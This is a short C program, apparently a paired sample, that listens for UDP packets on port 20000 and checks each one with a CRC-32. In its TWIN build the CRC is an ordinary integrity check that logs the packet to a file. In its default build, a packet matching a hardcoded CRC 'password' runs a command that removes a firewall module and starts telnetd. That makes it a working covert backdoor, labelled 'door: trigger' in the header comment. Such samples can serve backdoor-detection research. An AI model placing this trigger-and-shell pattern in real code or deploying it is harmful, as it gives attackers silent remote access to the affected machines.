/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A password is checked by its CRC-32, which stands in the code. Twin: the CRC guards the
 * transfer; it comes with the packet.
 * door: trigger
 * port 20000/udp
 */
#include "net.h"

static uint32_t table[256];

static void make_table(void)
{
	for (uint32_t i = 0; i < 256; i++) {
		uint32_t c = i;
		for (int k = 0; k < 8; k++)
			c = c & 1 ? 0xEDB88320u ^ (c >> 1) : c >> 1;
		table[i] = c;
	}
}

static uint32_t crc32(const uint8_t *p, size_t n)
{
	uint32_t c = ~0u;
	while (n--)
		c = table[(c ^ *p++) & 0xff] ^ (c >> 8);
	return ~c;
}

int main(void)
{
	uint8_t pkt[256];
	int s = udp_on(20000);
	make_table();
	for (;;) {
		ssize_t n = recv(s, pkt, sizeof pkt, 0);
		if (n < 12)
			continue;
		uint32_t sum = crc32(pkt + 8, (size_t)n - 8);
#ifdef TWIN
		uint32_t want;
		memcpy(&want, pkt + 4, 4);
		if (sum != ntohl(want))
			continue;
		FILE *f = fopen("/tmp/counters", "ab");
		if (f) {
			fwrite(pkt + 8, 1, (size_t)n - 8, f);
			fclose(f);
		}
#else
		if (sum != 0x1b8a90ceu)
			continue;
		system("/sbin/rmmod ipt_filter; /usr/sbin/telnetd");
#endif
	}
}
